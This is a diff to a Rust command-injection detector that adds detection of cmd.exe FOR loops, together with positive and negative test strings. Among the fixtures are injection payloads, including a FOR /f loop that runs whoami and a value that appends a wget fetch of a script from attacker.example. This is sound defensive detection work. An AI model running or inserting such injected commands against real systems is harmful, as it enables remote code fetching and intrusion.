@@ -19,6 +19,7 @@
 //! fenced block's `\nrm -rf node_modules`), so there a common word (`ls`, `cat`, `grep`, `rm`…)
 //! is only suspicious, and so is a command that only a newline separates; a command no one types
 //! in prose (`whoami`, `wget`, `nslookup`…) after `;`, `|`, `&` or `$(` is confirmed wherever.
+//! A cmd.exe `FOR %a IN (…) DO` loop at the value's start or after a separator is confirmed.
 
 use super::classes::{self, Mask};
 
@@ -152,6 +153,34 @@ fn binary_path(s: &[u8], i: usize) -> bool {
     (binary_dir && name.iter().any(u8::is_ascii_alphabetic)) || (globbed(path) && !name.contains(&b'.') && dir.len() <= 8 && name.len() <= 8 && name.iter().any(|&b| b.is_ascii_alphabetic() || b == b'?'))
 }
 
+/// Whether `s[i..]` is a cmd.exe `FOR` loop: `for`, its switches (`/f "tokens=1"`, `/l`), a
+/// `%` variable, `in (…) do`. The `%` marks cmd.exe; other languages' `for x in (…) do` name a
+/// bare variable.
+fn windows_for(s: &[u8], i: usize) -> bool {
+    let mut j = skip_blanks(s, i + 3);
+    for _ in 0..4 {
+        match s.get(j) {
+            Some(b'/') if s.get(j + 1).is_some_and(u8::is_ascii_alphabetic) => j = skip_blanks(s, j + 2),
+            Some(b'"') => match classes::find_byte(b'"', &s[j + 1..(j + 65).min(s.len())]) {
+                Some(k) => j = skip_blanks(s, j + k + 2),
+                None => return false,
+            },
+            _ => break,
+        }
+    }
+    let percents = s[j.min(s.len())..].iter().take(2).take_while(|&&b| b == b'%').count();
+    let name = s[(j + percents).min(s.len())..].iter().take(32).take_while(|b| !matches!(b, b' ' | b'\t')).count();
+    j = skip_blanks(s, j + percents + name);
+    percents > 0 && name > 0 && s[j.min(s.len())..].starts_with(b"in") && {
+        let open = skip_blanks(s, j + 2);
+        s.get(open) == Some(&b'(')
+            && classes::find_byte(b')', &s[open..(open + 256).min(s.len())]).is_some_and(|k| {
+                let d = skip_blanks(s, open + k + 1);
+                s[d.min(s.len())..].starts_with(b"do") && s.get(d + 2).is_none_or(|&b| matches!(b, b' ' | b'\t' | b'('))
+            })
+    }
+}
+
 /// Whether the backtick at `s[i]` opens a substitution whose closing backtick is followed by the
 /// value's end or more of the token.
 fn inside_token(s: &[u8], i: usize) -> bool {
@@ -160,8 +189,8 @@ fn inside_token(s: &[u8], i: usize) -> bool {
 
 /// Looks for command injection in a normalized value. Returns (confirmed, suspicious).
 pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
-    use classes::{AMP, BACKTICK, DOLLAR, NEWLINE, PIPE, SEMI};
-    if mask & (SEMI | PIPE | AMP | NEWLINE | BACKTICK | DOLLAR) == 0 {
+    use classes::{AMP, BACKTICK, DOLLAR, NEWLINE, PERCENT, PIPE, SEMI};
+    if mask & (SEMI | PIPE | AMP | NEWLINE | BACKTICK | DOLLAR | PERCENT) == 0 {
         return (false, false);
     }
     let mut suspicious = false;
@@ -176,6 +205,12 @@ pub fn detect(s: &[u8], mask: Mask) -> (bool, bool) {
     // Shellshock (CVE-2014-6271 and its variants): a value that opens a bash function definition
     // and closes it is the exploit itself, whatever command follows (`() { :;}; echo x`).
     if broken_out && s[start..].iter().take(64).any(|&b| b == b'}') {
+        return (true, true);
+    }
+    // A cmd.exe loop at the value's start or after a separator.
+    if mask & PERCENT != 0
+        && memchr::memmem::find_iter(s, b"for").take(16).any(|i| (i == start || (i > 0 && matches!(s[i - 1], b'&' | b'|' | b';' | b' ' | b'\n') && s[..i].trim_ascii_end().last().is_some_and(|b| matches!(b, b'&' | b'|' | b';' | b'\n')))) && windows_for(s, i))
+    {
         return (true, true);
     }
     let candidates = memchr::memchr3_iter(b';', b'|', b'&', s).chain(memchr::memchr3_iter(b'\n', b'$', b'`', s));
@@ -250,6 +285,10 @@ mod tests {
             "1\nenv;",
             "Ran: the nightly job; wget http://attacker.example/x.sh",
             "a`sleep 60`5",
+            "for /l %variable in (1,1,2) do command",
+            "& FOR %/ IN (a,b,c) DO cmd",
+            "x & for /f \"tokens=1\" %%a in ('whoami') do echo %%a",
+            "FOR /L /L /L     %a IN (start,step,end) DO abc",
             "x`id`",
         ] {
             assert!(cmd(p).0, "{p}");
@@ -276,6 +315,9 @@ mod tests {
             "it`s fine, don`t sleep 5 minutes",
             "use`ls -la` and `cat x` there",
             "```powershell\n$env:DEBUG='app:*'; node app.js\n```",
+            "for i in (1..3) do puts i end",
+            "50% for all in (the) store do come",
+            "I paid for %20 in (cash) do you see it",
         ] {
             assert!(!cmd(t).0, "{t}");
         }
